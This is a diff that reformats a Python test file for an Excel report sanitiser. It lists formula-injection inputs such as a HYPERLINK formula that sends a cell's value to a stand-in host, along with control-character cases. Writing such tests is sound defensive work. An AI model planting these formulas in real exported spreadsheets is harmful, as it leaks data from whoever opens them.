@@ -20,28 +20,28 @@ from tests.factories import tenant_draft
 
 SANITISER = [
     # value                                          cell
-    ('=HYPERLINK("http://x/?"&A2,"click")',          '\'=HYPERLINK("http://x/?"&A2,"click")'),
-    ("=1+1 漏水",                                     "'=1+1 漏水"),
-    ("+86 138",                                      "'+86 138"),
-    ("-2+3",                                         "'-2+3"),
-    ("@SUM(A1)",                                     "'@SUM(A1)"),
-    ("\tcmd",                                        "'\tcmd"),
-    ("\r=1",                                         "'\r=1"),
-    ("漏水 \u0001 bell",                              "漏水  bell"),
-    ("保安\u001b",                                    "保安"),
-    ("\u0000=1+1",                                   "'=1+1"),  # removing a character must not uncover a formula
-    ("a\u0008b\u000bc\u000cd\u001fe",                "abcde"),
-    ("bad \ud800 surrogate \ufffe\uffff",            "bad  surrogate "),
-    ("line one\nline two\ttab\rCR",                  "line one\nline two\ttab\rCR"),  # legal inside text
-    ("2栋 = 漏水",                                    "2栋 = 漏水"),  # only the first character counts
-    ("'=already text",                               "'=already text"),
-    ("—",                                            "—"),
-    ("",                                             ""),
-    ("QC-20261123-0001",                             "QC-20261123-0001"),
-    (42,                                             42),
-    (-3.5,                                           -3.5),  # numbers stay numbers, signs and all
-    (None,                                           None),
-    (datetime(2026, 11, 23, 10, 0),                  datetime(2026, 11, 23, 10, 0)),
+    ('=HYPERLINK("http://x/?"&A2,"click")', '\'=HYPERLINK("http://x/?"&A2,"click")'),
+    ("=1+1 漏水", "'=1+1 漏水"),
+    ("+86 138", "'+86 138"),
+    ("-2+3", "'-2+3"),
+    ("@SUM(A1)", "'@SUM(A1)"),
+    ("\tcmd", "'\tcmd"),
+    ("\r=1", "'\r=1"),
+    ("漏水 \u0001 bell", "漏水  bell"),
+    ("保安\u001b", "保安"),
+    ("\u0000=1+1", "'=1+1"),  # removing a character must not uncover a formula
+    ("a\u0008b\u000bc\u000cd\u001fe", "abcde"),
+    ("bad \ud800 surrogate \ufffe\uffff", "bad  surrogate "),
+    ("line one\nline two\ttab\rCR", "line one\nline two\ttab\rCR"),  # legal inside text
+    ("2栋 = 漏水", "2栋 = 漏水"),  # only the first character counts
+    ("'=already text", "'=already text"),
+    ("—", "—"),
+    ("", ""),
+    ("QC-20261123-0001", "QC-20261123-0001"),
+    (42, 42),
+    (-3.5, -3.5),  # numbers stay numbers, signs and all
+    (None, None),
+    (datetime(2026, 11, 23, 10, 0), datetime(2026, 11, 23, 10, 0)),
 ]
 
 
@@ -61,13 +61,21 @@ def every_cell(workbook):
             yield from row
 
 
-async def test_monthly_report_workbook_has_no_formula_and_survives_control_characters(service, settings, clock):
+async def test_monthly_report_workbook_has_no_formula_and_survives_control_characters(
+    service, settings, clock
+):
     await Department.create(code="eng", name="@工程部\u001b")
-    major = await service.submit(tenant_draft(description=HOSTILE_DESCRIPTION, subject=HOSTILE_SUBJECT,
-                                              severity=Severity.MAJOR), Actor.system())
+    major = await service.submit(
+        tenant_draft(
+            description=HOSTILE_DESCRIPTION, subject=HOSTILE_SUBJECT, severity=Severity.MAJOR
+        ),
+        Actor.system(),
+    )
     await service.assign(major.number, Actor.system(), department_code="eng")
-    await service.submit(tenant_draft(description="保安\u001b 态度差", subject="-保安\u001b", telegram_id=778),
-                         Actor.system())
+    await service.submit(
+        tenant_draft(description="保安\u001b 态度差", subject="-保安\u001b", telegram_id=778),
+        Actor.system(),
+    )
     report = await monthly_report(2026, 11, settings, clock.now(), locale="en")
     buffer = io.BytesIO()
     write_monthly_xlsx(report, buffer, "en")
